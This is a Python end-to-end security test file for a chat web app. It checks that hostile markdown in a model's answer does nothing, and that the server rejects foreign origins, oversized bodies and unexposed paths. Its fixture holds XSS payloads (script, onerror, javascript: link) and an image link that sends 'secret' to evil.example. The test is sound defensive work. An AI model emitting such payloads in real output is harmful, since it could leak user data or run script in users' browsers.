"""What a model writes can't call out or run, and other pages can't get in."""

import asyncio
import http.client
import json
import os
import socket
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from uuid import UUID, uuid4

import pytest
from playwright.sync_api import expect

from homeward.history import History, Step
from tests.e2e.conftest import Pages
from tests.e2e.server import Server, running

pytestmark = pytest.mark.browser

HOSTILE = """\
![pixel](https://evil.example/p?q=secret) ![ref][r] <img src=x onerror="window.owned=1"> <script>window.owned=1</script>
[click](javascript:window.owned=1) <iframe src="https://evil.example"></iframe> https://evil.example/auto

$$\\int_0^1 x^2\\,dx = \\tfrac13$$

It costs $5 today and $10 tomorrow.

[r]: https://evil.example/r.png
"""


async def seed(data_dir: Path, text: str) -> UUID:
    """A thread whose answer has this text."""
    thread, question = uuid4(), uuid4()
    async with await History.open(data_dir / "history.db") as history:
        user = await history.ensure_user("local")
        await history.save_step(Step(id=question, thread_id=thread, kind="user", name="You", text="?"), user_id=user.id)
        answer = Step(id=uuid4(), thread_id=thread, kind="assistant", parent_id=question, text=text)
        await history.save_step(answer)
    return thread


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, UUID]]:
    data_dir = tmp_path_factory.mktemp("hostile") / "data"
    data_dir.mkdir()
    with ThreadPoolExecutor(1) as elsewhere:  # Playwright keeps a loop in this thread
        thread = elsewhere.submit(asyncio.run, seed(data_dir, HOSTILE)).result()
    with running(data_dir) as server:
        yield server, thread


def test_hostile_text_is_shown_and_does_nothing(seeded: tuple[Server, UUID], pages: Pages) -> None:
    """No request leaves, nothing runs, formulas are drawn with our own fonts, prices stay prices."""
    server, thread = seeded
    chat = pages.open(server, f"/thread/{thread}")
    expect(chat.answers).to_contain_text("It costs $5 today and $10 tomorrow.")
    expect(chat.answers.locator(".katex")).to_have_count(1)
    chat.page.wait_for_function(
        "() => [...document.fonts].some((font) => font.family.includes('KaTeX') && font.status === 'loaded')"
    )
    chat.page.wait_for_timeout(1500)
    assert chat.page.evaluate("window.owned") is None
    assert chat.page.locator("iframe").count() == 0
    assert chat.page.locator("[data-step-type='assistant_message'] img[src*='evil']").count() == 0
    links = chat.answers.locator("a").evaluate_all("(all) => all.map((a) => a.getAttribute('href') || '')")
    assert not [link for link in links if link.startswith("javascript:")]


def test_foreign_pages_get_nothing(server: Server) -> None:
    """Wrong Host, wrong Origin, on the page and on the chat's socket."""
    assert server.get("/", {"Host": "evil.example"})[0] == 421
    assert server.get("/project/threads", {"Origin": "https://evil.example"})[0] == 403
    assert handshake(server, "https://evil.example") == 403
    assert handshake(server, f"http://localhost:{server.port + 1}") == 403
    assert handshake(server, server.url) == 101


def handshake(server: Server, origin: str) -> int:
    """Status of a websocket handshake with this Origin."""
    head = (
        f"GET /ws/socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\n"
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==\r\n"
        f"Sec-WebSocket-Version: 13\r\nOrigin: {origin}\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as connection:
        connection.sendall(head.encode())
        with connection.makefile("rb") as answer:
            return int(answer.readline().split()[1])


def test_unknown_paths_of_the_api_say_so(server: Server) -> None:
    """In OpenAI's envelope, not as the page."""
    status, body = server.get("/v1/files")
    assert status == 404
    assert b'"error"' in body


def test_chainlits_documents_are_closed(server: Server) -> None:
    """What we don't offer is not served."""
    assert [server.get(path)[0] for path in ("/docs", "/redoc", "/copilot/x")] == [404] * 3
    described = json.loads(server.get("/openapi.json")[1])  # ours, not that of Chainlit
    assert all(path.startswith("/v1/") for path in described["paths"])


def test_a_large_body_is_refused(server: Server) -> None:
    """413, without reading it."""
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    connection.putrequest("POST", "/project/action")
    connection.putheader("Content-Type", "application/json")
    connection.putheader("Content-Length", str(100_000_000))
    connection.endheaders(b"{")
    assert connection.getresponse().status == 413
    connection.close()


def test_files_are_readable_by_their_user_only(server: Server) -> None:
    """Conversations and the signing key."""
    for name in ("history.db", "page/auth-secret"):
        assert os.stat(server.data_dir / name).st_mode & 0o077 == 0  # noqa: PTH116
    assert server.data_dir.stat().st_mode & 0o077 == 0 or "pytest" in str(server.data_dir)
